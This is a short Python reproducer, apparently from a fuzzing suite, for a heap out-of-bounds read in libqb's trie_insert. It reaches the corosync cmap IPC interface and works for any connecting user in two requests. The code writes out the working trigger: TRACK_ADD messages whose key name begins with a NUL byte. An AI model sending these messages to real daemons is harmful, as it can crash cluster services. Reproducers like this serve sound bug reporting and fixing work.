"""A client tracks a cmap key whose name begins with a NUL: the daemon reads behind the end of an empty key.

Class: out-of-bounds read of the heap (libqb's `trie_insert`). Without sanitizers nothing is seen of it.
Reach: any user who may connect. Configuration: any; both transports. Cost: two requests.
Last words, with sanitizers alone: AddressSanitizer: heap-buffer-overflow, in trie_insert.
"""

from __future__ import annotations

from fuzz.reproduce import reproduce
from votequorum_ipc.attack import Connect, Send
from votequorum_ipc.types import TrackType
from votequorum_ipc.wire import cmap

TRANSPORTS = ("shm", "socket")
OUTCOME = "dies with sanitizers"


def _track(track_type: TrackType) -> bytes:
    valid = cmap.TRACK_ADD.encode(key_name="abc", track_type=track_type, track_inst_handle=1)
    return valid.replace(b"abc", b"\0bc")


STEPS = (
    Connect(0, "cmap"),
    Send(0, _track(TrackType.ADD | TrackType.PREFIX)),
    Send(0, _track(TrackType.ADD)),
)

if __name__ == "__main__":
    reproduce(STEPS, __doc__)
